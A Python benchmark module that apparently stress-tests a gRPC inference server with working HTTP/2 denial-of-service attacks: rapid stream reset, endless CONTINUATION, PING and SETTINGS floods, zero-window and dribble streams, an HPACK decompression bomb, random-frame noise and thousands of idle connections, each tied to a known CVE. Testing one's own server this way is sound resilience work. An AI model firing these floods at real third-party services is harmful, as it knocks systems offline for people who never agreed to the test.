"""Attacks on a server below gRPC: frames of HTTP/2 (RFC 9113), and connections that are never used.

Run in a separate process, because the attacker must not share an interpreter with the clients that are measured::

    python -m benchmarks.http2 reset HOST:PORT --connections 4 --seconds 5
    python -m benchmarks.http2 idle HOST:PORT --connections 2000 --seconds 5
    python -m benchmarks.http2 pings HOST:PORT --connections 4 --seconds 5

Kinds of attacks with frames, each repeated on one connection after another until the time is over:

=================  =====================================================================================
``reset``          streams that are opened and cancelled at once (CVE-2023-44487)
``continuation``   a header block that never ends (CVE-2024-27316)
``pings``          PING frames whose answers are not read (CVE-2019-9512)
``settings``       SETTINGS frames whose answers are not read (CVE-2019-9515)
``empty``          DATA frames without data in an open stream (CVE-2019-9518)
``window``         calls whose answers may not be sent, since the window is zero (CVE-2019-9517)
``dribble``        calls whose message of a megabyte arrives byte by byte
``bomb``           small header blocks that are megabytes when decompressed (CVE-2016-6581)
``noise``          frames of random types, flags, streams, lengths and contents
=================  =====================================================================================
"""

from __future__ import annotations

import argparse
import contextlib
import itertools
import os
import random
import resource
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
INITIAL_WINDOW_SIZE = 4  # a setting
METHOD = "/inference.GRPCInferenceService/ModelInfer"
END_HEADERS, END_STREAM, ACK = 4, 1, 1
CANCEL = 8
BURST = 50  # streams in one write
PAUSE_S = 0.2  # before the next connection: these are attacks with frames, not with connections


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def headers(path: str, authority: str) -> bytes:
    """Header block of a gRPC call, without compression (RFC 7541)."""

    def literal(name: bytes, value: str) -> bytes:
        return name + bytes((len(value),)) + value.encode()

    return (
        b"\x83\x86"  # POST, http
        + literal(b"\x04", path)
        + literal(b"\x01", authority)
        + literal(b"\x0f\x10", "application/grpc")
        + literal(b"\x00\x02te", "trailers")
    )


def reset(host: str, port: int, until: float, message: bytes) -> int:
    """Opens streams and cancels them at once, on one connection after another; returns how many."""
    block, streams = headers(METHOD, f"{host}:{port}"), 0
    body = b"\0" + len(message).to_bytes(4) + message
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=5) as connection:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
            reader = threading.Thread(target=_discard, args=(connection,), daemon=True)
            reader.start()
            for first in range(1, 2**31 - 2 * BURST, 2 * BURST):
                burst = b"".join(
                    frame(HEADERS, END_HEADERS, stream, block)
                    + frame(DATA, END_STREAM, stream, body)
                    + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4))
                    for stream in range(first, first + 2 * BURST, 2)
                )
                connection.sendall(burst)
                streams += BURST
                if time.monotonic() > until:
                    break
    return streams


def _discard(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while connection.recv(65536):
            pass


def _literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    """A header that is not in the static table; ``indexed`` adds it to the dynamic one."""
    length = bytes((len(value),)) if len(value) < 127 else b"\x7f" + _integer(len(value) - 127)
    return (b"\x40" if indexed else b"\x00") + bytes((len(name),)) + name + length + value


def _integer(value: int) -> bytes:
    """The rest of an integer in HPACK after its prefix."""
    rest = bytearray()
    while value >= 128:
        rest.append(value % 128 + 128)
        value //= 128
    return bytes((*rest, value))


def _continuation(authority: str, message: bytes) -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, headers(METHOD, authority))
    block = b"".join(_literal(b"x", b"y" * 100) for _ in range(100))
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, block))


def _pings(authority: str, message: bytes) -> Iterator[bytes]:
    yield from itertools.repeat(100 * frame(PING, 0, 0, b"12345678"))


def _settings(authority: str, message: bytes) -> Iterator[bytes]:
    yield from itertools.repeat(100 * frame(SETTINGS, 0, 0))


def _empty(authority: str, message: bytes) -> Iterator[bytes]:
    yield frame(HEADERS, END_HEADERS, 1, headers(METHOD, authority))
    yield from itertools.repeat(100 * frame(DATA, 0, 1))


def _window(authority: str, message: bytes) -> Iterator[bytes]:
    yield frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2) + (0).to_bytes(4))
    block, body = headers(METHOD, authority), b"\0" + len(message).to_bytes(4) + message
    for stream in range(1, 200, 2):
        yield frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body)
    while True:
        time.sleep(0.05)
        yield frame(PING, 0, 0, b"12345678")


def _dribble(authority: str, message: bytes) -> Iterator[bytes]:
    block = headers(METHOD, authority)
    for stream in range(1, 200, 2):
        yield frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, b"\0" + (1_000_000).to_bytes(4))
    while True:
        time.sleep(0.05)
        yield b"".join(frame(DATA, 0, stream, b"\0") for stream in range(1, 200, 2))


def _bomb(authority: str, message: bytes) -> Iterator[bytes]:
    yield frame(HEADERS, END_HEADERS, 1, headers(METHOD, authority) + _literal(b"x", b"y" * 4000, indexed=True))
    for stream in itertools.count(3, 2):  # index 62 is the newest entry of the dynamic table
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, headers(METHOD, authority) + 10_000 * b"\xbe")


def _noise(authority: str, message: bytes) -> Iterator[bytes]:
    rng = random.Random(0)
    while True:
        kind, flags, stream = rng.randrange(11), rng.randrange(256), rng.choice((0, 1, 3, 5, 2**31 - 1))
        yield frame(kind, flags, stream, rng.randbytes(rng.choice((0, 1, 5, 8, 100, 16_000))))


FLOODS: dict[str, Callable[[str, bytes], Iterator[bytes]]] = {
    "continuation": _continuation,
    "pings": _pings,
    "settings": _settings,
    "empty": _empty,
    "window": _window,
    "dribble": _dribble,
    "bomb": _bomb,
    "noise": _noise,
}


def flood(kind: str, host: str, port: int, until: float, message: bytes) -> int:
    """Sends frames of one kind, on one connection after another; returns how many connections there were."""
    connections = 0
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=5) as connection:
            connections += 1
            connection.settimeout(max(0.1, until - time.monotonic()))
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
            if kind not in ("pings", "settings"):
                threading.Thread(target=_discard, args=(connection,), daemon=True).start()
            for frames in FLOODS[kind](f"{host}:{port}", message):
                connection.sendall(frames)
                if time.monotonic() > until:
                    break
        time.sleep(PAUSE_S)
    return connections


def idle(host: str, port: int, connections: int, until: float, *, source: str, speak: bool) -> int:
    """Holds connections that send nothing, or only HTTP/2's preface; returns how many the server accepted.

    ``source`` is the address from which they come; empty for the usual one.
    """
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, connections + 100)), hard))
    held = list[socket.socket]()
    for _ in range(connections):
        with contextlib.suppress(OSError):
            connection = socket.create_connection((host, port), 1, (source, 0) if source else None)
            held.append(connection)
            if speak:
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    print(len(held), flush=True)
    time.sleep(max(0.0, until - time.monotonic()))
    for connection in held:
        connection.close()
    return len(held)


@contextlib.contextmanager
def attack(kind: str, address: str, connections: int, seconds: float, *options: str) -> Iterator[subprocess.Popen[str]]:
    """An attack from a separate process."""
    command = [sys.executable, "-m", "benchmarks.http2", kind, address, *options]
    command += ["--connections", str(connections), "--seconds", str(seconds)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        try:
            yield process
        finally:
            process.kill()


def main() -> None:
    """Attacks as the command line says, and prints how many streams or connections there were."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("kind", choices=("reset", "idle", *FLOODS))
    parser.add_argument("address")
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--message", default="", help="hexadecimal message of each stream")
    parser.add_argument("--source", default="", help="address from which idle connections come, as 127.0.0.2")
    parser.add_argument("--speak", action="store_true", help="idle connections send the preface of HTTP/2")
    args = parser.parse_args()
    os.nice(19)  # a real attacker has its own processors
    host, _, port = args.address.rpartition(":")
    until = time.monotonic() + args.seconds
    if args.kind == "idle":
        idle(host, int(port), args.connections, until, source=args.source, speak=args.speak)
        return
    counts = list[int]()

    def work() -> None:
        message = bytes.fromhex(args.message)
        if args.kind == "reset":
            counts.append(reset(host, int(port), until, message))
        else:
            counts.append(flood(args.kind, host, int(port), until, message))

    threads = [threading.Thread(target=work) for _ in range(args.connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(sum(counts), flush=True)


if __name__ == "__main__":
    main()
